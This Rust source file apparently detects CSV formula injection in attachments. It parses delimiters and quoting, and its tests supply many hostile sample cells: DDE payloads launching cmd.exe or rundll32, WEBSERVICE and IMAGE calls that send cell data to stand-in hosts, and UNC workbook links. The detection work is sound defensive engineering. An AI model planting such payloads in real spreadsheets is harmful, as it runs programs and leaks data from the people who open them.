//! Cells of tables in text (CSV): which of them a program of tables would calculate, and what
//! they do then.
//!
//! Which sign divides cells is not known: it depends on the reader's language and choice. So
//! the text is cut in each way that a program may choose, and in each a cell is read as it
//! stands and, where it begins with a quote, as that quote surrounds it. All of it takes time
//! that grows with the text: there are at most six ways, a cell is judged at most twice in each,
//! and a cell in quotes reaches to the first odd number of quotes in a row. Between the two no
//! other can stay open, so cells in quotes overlap only where one goes on behind its quotes.

use std::borrow::Cow;

use super::formula::is_active;

/// The bytes of a cell that are judged, from its sign on: more than a formula may have.
/// LibreOffice takes 65 535 letters, Excel 8192.
const LONGEST_FORMULA: usize = 4 * 65_536;

/// What begins a formula; wide in some languages.
const SIGNS: [char; 8] = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];

/// Whether a cell of a table in text starts another program (`=cmd|'/c calc'!A1`) or loads
/// from elsewhere (`=WEBSERVICE("http://x")`).
pub fn has_active_formula(text: &str) -> bool {
    divisions(text)
        .iter()
        .any(|ends| formulas(text, ends).any(|formula| is_active(&formula)))
}

/// What ends a line.
const LINES: [char; 2] = ['\n', '\r'];

/// Without one of these a formula calls nothing, and reads no other file or program.
const ACTING: [char; 4] = ['(', '\'', '|', '['];

/// The ways to divide the text's lines into cells, each as the signs that end a cell: by none,
/// by each sign alone that the text has, and by all.
fn divisions(text: &str) -> Vec<Vec<char>> {
    let mut signs = vec![',', ';', '\t'];
    signs.extend(told(text).filter(|sign| !signs.contains(sign)));
    signs.retain(|sign| text.contains(*sign));
    let mut ways = vec![LINES.to_vec()];
    ways.extend(signs.iter().map(|sign| [&LINES[..], &[*sign]].concat()));
    if signs.len() > 1 {
        ways.push([&LINES[..], &signs].concat());
    }
    ways
}

/// The sign between cells that the first line tells: `sep=|`, also in quotes or capitals.
fn told(text: &str) -> Option<char> {
    let (name, rest) = text
        .trim_start_matches(is_before_formula)
        .split_at_checked("sep=".len())?;
    let sign = rest.chars().next()?;
    let divides = name.eq_ignore_ascii_case("sep=") && !matches!(sign, '\n' | '\r' | '"');
    divides.then_some(sign)
}

/// A cell as it stands, and the text from its beginning on.
struct Cell<'a> {
    bare: &'a str,
    from: &'a str,
}

/// The text's cells. Whole lines are cells only where nothing else divides: they are the same
/// in each way.
fn cells<'a>(text: &'a str, ends: &'a [char]) -> impl Iterator<Item = Cell<'a>> {
    let divided = ends.len() > LINES.len();
    let mut next = Some(text);
    let mut begins_line = true;
    std::iter::from_fn(move || {
        loop {
            let from = next?;
            let at = from.find(ends).unwrap_or(from.len());
            let (bare, rest) = from.split_at(at);
            let mut rest = rest.chars();
            let end = rest.next();
            next = end.map(|_| rest.as_str());
            let ends_line = end.is_none_or(|sign| LINES.contains(&sign));
            let whole = std::mem::replace(&mut begins_line, ends_line) && ends_line;
            if !(whole && divided) {
                return Some(Cell { bare, from });
            }
        }
    })
}

/// The cells that may be a formula that acts, from its sign on. One may come twice: as it
/// stands, and as its quotes surround it.
fn formulas<'a>(text: &'a str, ends: &'a [char]) -> impl Iterator<Item = Cow<'a, str>> {
    cells(text, ends).flat_map(move |cell| {
        // Cut off within its quotes, it is judged as a part of the whole.
        let is_quoted = cell.bare.trim_start_matches(' ').starts_with('"');
        let bare = formula(cell.bare).filter(|bare| !is_quoted && bare.contains(ACTING));
        [bare.map(Cow::Borrowed), quoted(&cell, ends)]
            .into_iter()
            .flatten()
    })
}

/// The formula in a cell that begins with a quote, without its quotes. It may hold what ends
/// other cells, and goes on behind the closing quote until its own end.
fn quoted<'a>(cell: &Cell<'a>, ends: &[char]) -> Option<Cow<'a, str>> {
    let begin = cell.bare.trim_start_matches(' ');
    // Some programs let people choose the apostrophe.
    let quote = begin.chars().next().filter(|c| matches!(c, '"' | '\''))?;
    let blanks = cell.bare.len() - begin.len();
    let opened = cell.from.get(blanks + quote.len_utf8()..)?;
    let (inside, behind) = match closing(opened, quote) {
        Some(at) => (&opened[..at], &opened[at + 1..]),
        None => (opened, ""),
    };
    let behind = shortened(behind.split(ends).next().unwrap_or(""));
    if inside.trim_start_matches(is_before_formula).is_empty() {
        let formula = formula(behind).filter(|behind| behind.contains(ACTING));
        return formula.map(Cow::Borrowed);
    }
    let inside = formula(inside)?;
    if !inside.contains(ACTING) && !behind.contains(ACTING) {
        return None;
    }
    if behind.is_empty() && !inside.contains(quote) {
        return Some(Cow::Borrowed(inside));
    }
    let once = if quote == '"' {
        inside.replace("\"\"", "\"")
    } else {
        inside.replace("''", "'")
    };
    Some(Cow::Owned(once + behind))
}

/// Where the quote stands that closes a cell: the first that is not doubled.
fn closing(opened: &str, quote: char) -> Option<usize> {
    let mut from = 0;
    loop {
        let at = from + opened.get(from..)?.find(quote)?;
        if !opened[at + 1..].starts_with(quote) {
            return Some(at);
        }
        from = at + 2;
    }
}

/// The cell from the sign of a formula on, or `None` where it has none.
fn formula(cell: &str) -> Option<&str> {
    let formula = cell.trim_start_matches(is_before_formula);
    formula.starts_with(SIGNS).then(|| shortened(formula))
}

fn is_before_formula(c: char) -> bool {
    c.is_whitespace() || matches!(c, '"' | '\'' | '\u{feff}')
}

fn shortened(text: &str) -> &str {
    &text[..text.floor_char_boundary(LONGEST_FORMULA)]
}

#[cfg(test)]
mod tests {
    use nix::time::ClockId;

    use super::*;
    use crate::attachment::formula::is_active_formula;

    #[test]
    fn what_acts_is_told_from_tables() {
        for text in [
            "a,\"=cmd|'/c calc'!A0\"",
            "+MSEXCEL|'\\..\\cmd.exe'!A1",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "=cmd|' /C notepad'!'A1'",
            "a,b\n=WEBSERVICE(\"http://x/a\"),1",
            "\"=IMAGE(\"\"http://x/a\"\")\",1",
            "a;+WEBSERVICE(A1);b",
            "a\t=1+RTD (A1)",
            "a,b\n\"=rundll32|'URL.dll,OpenURL calc.exe'!A\",1",
            "a;b\n=rundll32|'URL.dll,OpenURL calc.exe'!A;1",
            "sep=|\na|=WEBSERVICE(\"http://10.0.0.1\")|b",
            "a,b\n='//10.0.0.1/s/[a.xlsx]S'!A1,1",
            "a,b\n\"=MAP(A1,WEBSERVICE)\",1",
            "a,b\n\"=_xlfn.BYROW(A1,_xleta.WEBSERVICE)\",1",
            "=\\\\10.0.0.1\\s\\[a.xlsx]S!A1",
            "a;=//10.0.0.1/s/[a.xlsx]S!A1",
            "=IMPORTXML(\"http://x\",\"//a\")",
            "=IMPORTDATA(A1)",
            "=IMPORTHTML(A1;\"table\";1)",
            "=1+IMPORTRANGE(A1,B1)",
            "=IMAGE(A1)",
        ] {
            assert!(has_active_formula(text), "{text}");
        }
        for text in [
            "a|b|c!",
            "| cột 1 | cột 2! |",
            "show run | include !",
            "=A1+B2",
            "-5|3",
            "+84 123|x",
            "- mục a|b!c",
            "+cat x|grep a!b",
            "-12|34!5",
            "- IMAGE (b\u{1ea3}n s\u{1ed1} 2)",
            "=SUM(A1)",
            "a,=SUM(A1,B2),=IF(A1,\"x,WEBSERVICE(\",2)",
            "int image = call(x)",
            "-exec(x)
+call(y)",
        ] {
            assert!(!has_active_formula(text), "{text}");
        }
    }

    #[test]
    fn every_sign_begins_a_formula() {
        for formula in [
            "1+WEBSERVICE(\"http://10.0.0.1/\")",
            "\"x\"&IMAGE(\"http://10.0.0.1/a\")",
            "SUM(WEBSERVICE(\"http://x\"))",
            "'\\\\10.0.0.1\\s\\[a.xlsx]S'!A1",
            "'\\\\10.0.0.1\\it''s\\[a.xlsx]S'!A1",
            "1+'file://10.0.0.1/s/a.ods'#$S.A1",
            "\\\\10.0.0.1\\s\\[a.xlsx]S!A1",
            "1+//10.0.0.1/s/[a.xlsx]S!A1",
            "A1*image(B1)",
            "A1 webservice(\"http://x\")",
            " IMAGE(B1&C1)",
            "0-IMAGE(concat(\"h\";B1))",
            "A1:A2 B1+IMAGE(\"http://x\")",
            "1+IMPORTXML(A1,B1)",
            "1+RTD(\"a\",,\"b\")",
            "1+_xlfn.WEBSERVICE(A1)",
            "'a\"b'!A1&WEBSERVICE(\"http://x\")",
        ] {
            for sign in SIGNS {
                for text in [
                    format!("{sign}{formula}"),
                    format!("a\t{sign}{formula}\tb"),
                    format!("a,\"{sign}{}\",b", formula.replace('"', "\"\"")),
                ] {
                    assert!(has_active_formula(&text), "{text}");
                }
            }
        }
        for text in [
            "- Image(s) of the site",
            "- 2 hình, image (1)",
            "- Hình: xem Image(1), Image(2)",
            "-call(a1, \"x\")\n+register(b, 2)\n-exec(\"ls\")",
            "+image(url, 12)\n-translate(self.x)",
            "- IMAGE(b\u{1ea3}n s\u{1ed1} 2)",
            "- mở '\\\\10.0.0.1\\chia se' rồi chép",
            "- mở \\\\10.0.0.1\\chia-se!",
            "- xem http://10.0.0.1/[a]b!c",
            "+a // [x] b!",
            "- \"WEBSERVICE(\"",
            "-a[1]!",
        ] {
            assert!(!has_active_formula(text), "{text}");
        }
    }

    #[test]
    fn nothing_around_a_formula_hides_it() {
        let x = "x".repeat(9_000);
        let many = "ạ".repeat(4_000);
        for text in [
            // What stands behind it in its line.
            format!("a,b\n\"=rundll32|'URL.dll,OpenURL calc.exe'!A\",{x}\n"),
            format!("a,b\n\"=MAP(A1,WEBSERVICE)\",{x}"),
            format!("a;b\n=rundll32|'URL.dll,OpenURL calc.exe'!A;{x}"),
            // In the formula itself: few letters, many bytes.
            format!("=IF(A1=\"{many}\";1;WEBSERVICE(\"http://x\"))"),
            // Line breaks in a quoted cell.
            "a,b\n\"=\nWEBSERVICE(\"\"http://10.0.0.1/\"\"&A1)\",1\n".into(),
            "a,b\r\n1,\"=1+\r\ncmd|'/c calc'!A0\"\r\n".into(),
            "a,b\n\"=MAP(A1,\n\tWEBSERVICE)\"".into(),
            "1,\"\n =\nA1\nIMAGE(B1)\"".into(),
            // A quote before it that belongs to no cell, or is never closed.
            "5\" x,\"=\nWEBSERVICE(A1)\"".into(),
            "x;\"y,\"=\nWEBSERVICE(A1)\",1".into(),
            "\"a\n\"\"\n1,\"=MAP(A1,\nWEBSERVICE)".into(),
            // A cell goes on behind its closing quote.
            "1,\"=WEB\"SERVICE(A1),2".into(),
            "1,\"=cmd\"|'/c calc'!A0".into(),
            "1,\"\"=WEBSERVICE(A1)".into(),
            // Two quotes are an empty text where none surround the cell.
            "a\t=IF(A1=\"\";WEBSERVICE(\"http://x\"))".into(),
            "a,\"=IF(A1=\"\"\"\",WEBSERVICE(\"\"http://x\"\"))\"".into(),
            // Who may choose the sign between cells.
            "SEP=|\na|=WEBSERVICE(\"http://10.0.0.1\")|b".into(),
            "\"sep=|\"\na|=WEBSERVICE(\"http://10.0.0.1\")|b\n".into(),
            "\"Sep=ạ\"\r\naạ=MAP(A1,WEBSERVICE)ạb".into(),
            "a;+rundll32|'URL.dll,OpenURL calc.exe'!A;1".into(),
            "a\t=MAP(A1,B1;WEBSERVICE)\tb".into(),
            "a,'=MAP(A1,WEBSERVICE)',b".into(),
            "a, \"=MAP(A1,WEBSERVICE)\",b".into(),
            "= cmd|'/c calc'!A0".into(),
        ] {
            assert!(has_active_formula(&text), "{text}");
        }
    }

    #[test]
    fn honest_tables_are_taken() {
        let long = format!(
            "a,\"{}\",=A1+B1",
            "Ghi chú (xem hình), call (x); ".repeat(9_000)
        );
        for text in [
            "\"=SUM(\nA1,B2)\",\"gọi call(x)\"\n",
            "\"=IF(A1,\"\"x,WEBSERVICE(\"\",2)\",\"IMAGE (1)\"",
            "\"- mục a\n- show run|include!\",1",
            "\"a\n-b\n|c|d!|\"",
            "| a | =A1 |\n|---|---|\n| call(x) | b! |",
            "===== Nhật ký =====\nimage (1), call(x)\n=====",
            "Nov 28 02:00:01 r1 %SYS-5: a=b|c=d! user='x'|cmd='show run'",
            "a=1,b=call(x),c=\"exec(y)\"",
            "5\" ống,=A1,\"gọi call(x)\"",
            "sep=;\na;b;=A1",
            "sep=\n=A1",
            "sep=",
            "\"",
            "=\"",
            "",
            &long,
        ] {
            assert!(!has_active_formula(text), "{text}");
        }
    }

    /// Texts made to cost as much as may be, each of about so many bytes.
    fn costly(bytes: usize) -> Vec<String> {
        [
            "=,",
            "=|",
            "\"=",
            "\"=,",
            ",\"=",
            ",'=",
            "'=\n",
            "=(",
            "=(,",
            "=(\n",
            "\"=(,",
            ",\"=(\n",
            "=\"\"",
            ",\"\"=",
            "\n\"\"\"=",
            " ",
            ", \"",
            ";\"\"\n",
            "=a|'",
            "=a|b",
            ",=a|",
            "=WEBSERVICE",
            "=WEBSERVICE\n",
            "=WEBSERVICE,",
            "WEBSERVICE",
            ",=\"\"\"\";\t",
            "=_XL",
            "'",
            "\"",
            "='",
            "='\"",
            "=\n",
            "ạ,＝",
            "=a (",
            "+IMAGE(",
            "+IMAGE(A ",
            "-'//",
            "-\\\\",
            "@[//",
            "+ (",
            "\"\n",
            "-\r",
        ]
        .iter()
        .flat_map(|piece| {
            let body = piece.repeat(bytes / piece.len());
            let told = format!("sep= \n\t;,{body}");
            let quote = format!("sep='\n\t;,{body}");
            let opened = format!("\"=(|{body}");
            [body, told, quote, opened]
        })
        .collect()
    }

    #[test]
    fn each_way_judges_each_byte_a_few_times() {
        for text in costly(10_000) {
            for ends in divisions(&text) {
                let judged: usize = formulas(&text, &ends).map(|cell| cell.len()).sum();
                assert!(judged <= 5 * text.len(), "{judged}: {text:.40}");
            }
        }
    }

    /// Release takes 2 MB of the worst in 0.3 s; this finds what is not linear, which takes
    /// minutes to hours.
    #[test]
    fn time_grows_with_the_text() {
        let long = [
            "=,",
            "=|",
            "\"=",
            ",\"\"",
            "=WEBSERVICE",
            "=WEBSERVICE\n",
            "+IMAGE(",
            "-'//",
            "@[//",
        ];
        let long = long
            .iter()
            .map(|piece| piece.repeat(2_000_000 / piece.len()));
        let told = "sep='\n".to_owned() + &"'".repeat(2_000_000);
        for text in long.chain([told]) {
            // What others do on this machine does not count.
            let worked = || ClockId::CLOCK_THREAD_CPUTIME_ID.now().unwrap();
            let began = worked();
            has_active_formula(&text);
            is_active_formula(&text);
            let took = worked() - began;
            assert!(took.tv_sec() < 15, "{took}: {text:.40}");
        }
    }

    proptest::proptest! {
        #[test]
        fn any_text_is_judged(text in "[=+\"',;|!\n\r\t (ạ＝a]{0,60}", told in "(sep=.)?") {
            let text = told + "\n" + &text;
            has_active_formula(&text);
            for ends in divisions(&text) {
                let judged: usize = formulas(&text, &ends).map(|cell| cell.len()).sum();
                proptest::prop_assert!(judged <= 5 * text.len());
            }
        }

        /// A cell that is written as tables are acts whatever stands around it.
        #[test]
        fn a_formula_is_found_in_any_table(
            before in proptest::collection::vec("[a-z=\"',;\n -]{0,9}", 0..9),
            behind in "(,[a-z=\"';\n -]{0,9}){0,3}",
            formula in "=(1\\+)?\n?(WEBSERVICE\\(\"http://x\"\\)|cmd\\|'/c, a'!A1|MAP\\(A1,IMAGE\\))",
        ) {
            let cell = |text: &str| format!("\"{}\"", text.replace('"', "\"\""));
            let before: String = before.iter().map(|text| cell(text) + ",").collect();
            let text = format!("{before}{}{behind}", cell(&formula));
            proptest::prop_assert!(has_active_formula(&text), "{}", text);
        }
    }
}
